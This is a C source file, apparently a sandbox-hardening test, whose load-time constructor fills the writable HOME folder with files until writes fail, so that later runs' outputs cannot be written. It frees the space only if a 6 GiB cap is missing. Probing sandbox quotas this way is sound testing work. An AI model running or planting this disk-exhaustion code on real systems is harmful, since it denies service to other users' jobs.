
// The attack: at the start of every process, fill the box (HOME, the
// only writable folder) with 1 MiB files, then 4 KiB ones, until a write
// fails, and leave them there, so that nothing more fits: the outputs of
// its runs cannot be written and its cases fail.  If 6 GiB fit (no cap on
// the box as a whole), it frees them and runs as the solution would, so
// that full marks show the cap missing.
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
static long long fill_with(const char *dir, size_t block_bytes, int *k, long long total)
{
    static char block[1 << 20];
    char path[512];
    memset(block, 'x', sizeof block);
    for (; total < (6LL << 30); (*k)++) {
        snprintf(path, sizeof path, "%s/fill%d", dir, *k);
        int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0600);
        ssize_t n = fd >= 0 ? write(fd, block, block_bytes) : -1;
        if (fd >= 0)
            close(fd);
        if (n != (ssize_t)block_bytes)
            break;
        total += n;
    }
    return total;
}
__attribute__((constructor)) static void attack_start(void)
{
    const char *dir = getenv("HOME") ? getenv("HOME") : ".";
    int k = 0;
    while (1) { /* past the files an earlier process left */
        char path[512];
        snprintf(path, sizeof path, "%s/fill%d", dir, k);
        if (access(path, F_OK) != 0)
            break;
        k++;
    }
    int first = k;
    long long total = fill_with(dir, 1 << 20, &k, 0);
    total = fill_with(dir, 4096, &k, total);
    if (total >= (6LL << 30)) { /* no cap: free them, and pass */
        fprintf(stderr, "attack: 6 GiB fitted in the box\n");
        for (int i = first; i <= k; i++) {
            char path[512];
            snprintf(path, sizeof path, "%s/fill%d", dir, i);
            unlink(path);
        }
    }
}
